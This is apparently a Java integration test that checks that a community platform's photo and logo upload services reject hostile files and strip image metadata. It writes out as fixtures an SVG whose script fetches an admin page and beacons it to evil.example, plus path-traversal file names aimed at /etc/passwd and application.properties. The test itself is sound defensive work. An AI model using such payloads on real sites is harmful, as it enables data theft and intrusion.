package se.brobygge.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.Map;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import se.brobygge.associations.AssociationId;
import se.brobygge.associations.AssociationLogoService;
import se.brobygge.associations.AssociationReviewService;
import se.brobygge.associations.AssociationService;
import se.brobygge.associations.internal.LogoImages;
import se.brobygge.identity.Roles;
import se.brobygge.places.PlaceId;
import se.brobygge.places.PlacePhoto;
import se.brobygge.places.PlacePhotoService;
import se.brobygge.places.PlaceService;
import se.brobygge.places.PlaceTestData;
import se.brobygge.shared.InvalidInputException;
import se.brobygge.shared.i18n.TranslationProvider;
import se.brobygge.support.IntegrationTest;
import se.brobygge.support.RunAs;
import se.brobygge.support.TestAccounts;

/**
 * Hostile files sent straight to the upload services, around the browser's file picker (which
 * only filters by name): every upload is judged by its bytes, images are decoded and written anew,
 * and a file's name never reaches storage or a URL.
 */
@IntegrationTest
class UploadsIT {

    /** A file as a browser would send it: a name it chose and bytes. */
    record HostileFile(String name, byte[] bytes) {}

    static final HostileFile PDF_NAMED_JPG = new HostileFile(
            "foto.jpg",
            "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"
                    .getBytes(StandardCharsets.ISO_8859_1));
    static final HostileFile SVG_WITH_SCRIPT = new HostileFile(
            "logga.png",
            ("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">"
                            + "<script>fetch('/admin/accounts').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))"
                            + "</script><rect width=\"10\" height=\"10\"/></svg>")
                    .getBytes(StandardCharsets.UTF_8));
    static final HostileFile PATH_TRAVERSAL_TEXT = new HostileFile(
            "../../../../etc/passwd.jpg", "root:x:0:0:root:/root:/bin/bash\n".getBytes(StandardCharsets.UTF_8));
    static final HostileFile PATH_TRAVERSAL_IMAGE =
            new HostileFile("..\\..\\WEB-INF\\classes\\application.properties", PlaceTestData.jpeg(30, 20));

    @Autowired
    TestAccounts accounts;

    @Autowired
    PlaceService places;

    @Autowired
    PlacePhotoService photos;

    @Autowired
    AssociationService associations;

    @Autowired
    AssociationLogoService associationLogos;

    @Autowired
    AssociationReviewService associationReview;

    private final TranslationProvider translations = new TranslationProvider();

    @Test
    void placePhotosAreJudgedByTheirBytesAndRefusalsSayWhyInEveryLanguage() {
        TestAccounts.Created lina = accounts.create("Lina", Roles.STAFF);
        PlaceId place = RunAs.as(
                lina,
                Roles.STAFF,
                () -> places.create(PlaceTestData.details(PlaceTestData.uniqueName("Uppladdningshuset"), "Centrum"))
                        .id());
        byte[] oversized = new byte[PlacePhotoService.MAX_BYTES + 1];
        System.arraycopy(PlaceTestData.jpeg(10, 10), 0, oversized, 0, 100);
        Map<HostileFile, String> refusals = Map.of(
                new HostileFile("stor.jpg", oversized),
                "places.error.photo.size",
                PDF_NAMED_JPG,
                "places.error.photo.type",
                SVG_WITH_SCRIPT,
                "places.error.photo.type",
                PATH_TRAVERSAL_TEXT,
                "places.error.photo.type");
        RunAs.run(lina, Roles.STAFF, () -> {
            refusals.forEach((file, key) -> {
                assertThatThrownBy(() -> photos.upload(place, file.bytes(), "Bild"))
                        .as(file.name())
                        .isInstanceOfSatisfying(
                                InvalidInputException.class,
                                e -> assertThat(e.errors())
                                        .containsExactly(new InvalidInputException.FieldError("photo", key)));
                assertTranslated(key);
            });
            assertThat(places.find(place).orElseThrow().photos())
                    .as("nothing saved")
                    .isEmpty();
            PlacePhoto stored = photos.upload(place, PATH_TRAVERSAL_IMAGE.bytes(), "Entrén");
            assertThat(stored.url()).as("the name chooses nothing").matches("/images/places/[0-9]+\\.jpg");
            byte[] bytes = photos.jpeg(stored.id()).orElseThrow();
            assertThat(bytes).startsWith(0xFF, 0xD8, 0xFF).isNotEqualTo(PATH_TRAVERSAL_IMAGE.bytes());
        });
    }

    @Test
    void associationLogosAreReencodedWithoutMetadataAndHostileFilesAreRefused() throws Exception {
        TestAccounts.Created sara = accounts.create("Sara", Roles.RESIDENT);
        TestAccounts.Created lina = accounts.create("Lina", Roles.STAFF);
        AssociationId association = RunAs.as(
                sara, Roles.RESIDENT, () -> associations.register(SecurityTestData.association("Uppladdning IF")));
        RunAs.run(lina, Roles.STAFF, () -> associationReview.verify(association));
        String[] rep = {Roles.RESIDENT, Roles.ASSOCIATION_REP};
        byte[] oversized = new byte[LogoImages.MAX_BYTES + 1];
        System.arraycopy(PlaceTestData.jpeg(10, 10), 0, oversized, 0, 100);
        Map<HostileFile, String> refusals = Map.of(
                new HostileFile("stor.png", oversized),
                "associations.validation.logoSize",
                PDF_NAMED_JPG,
                "associations.validation.logoType",
                SVG_WITH_SCRIPT,
                "associations.validation.logoType",
                PATH_TRAVERSAL_TEXT,
                "associations.validation.logoType");
        refusals.forEach((file, key) -> {
            assertThatThrownBy(() -> RunAs.as(sara, rep, () -> {
                        associationLogos.uploadLogo(association, file.bytes());
                        return null;
                    }))
                    .as(file.name())
                    .isInstanceOfSatisfying(
                            InvalidInputException.class,
                            e -> assertThat(e.errors())
                                    .containsExactly(new InvalidInputException.FieldError("logo", key)));
            assertTranslated(key);
        });
        assertThat(RunAs.as(sara, rep, () -> associationLogos.logo(association)))
                .as("nothing saved")
                .isEmpty();

        byte[] withExif = PlaceTestData.withExif(PlaceTestData.jpeg(120, 90));
        RunAs.as(sara, rep, () -> {
            associationLogos.uploadLogo(association, withExif);
            return null;
        });
        byte[] stored =
                RunAs.as(sara, rep, () -> associationLogos.logo(association)).orElseThrow();
        assertThat(stored).startsWith(0x89, 'P', 'N', 'G');
        String text = new String(stored, StandardCharsets.ISO_8859_1);
        assertThat(text)
                .doesNotContain("Exif")
                .doesNotContain("GPS 55.6050N")
                .doesNotContain("eXIf")
                .doesNotContain("tEXt")
                .doesNotContain("iTXt");
        assertThat(ImageIO.read(new ByteArrayInputStream(stored)).getWidth()).isEqualTo(120);
    }

    private void assertTranslated(String key) {
        for (String language : new String[] {"sv", "en", "ar"}) {
            assertThat(translations.getTranslation(key, Locale.forLanguageTag(language)))
                    .as(key + " in " + language)
                    .isNotBlank()
                    .doesNotContain(key);
        }
    }
}
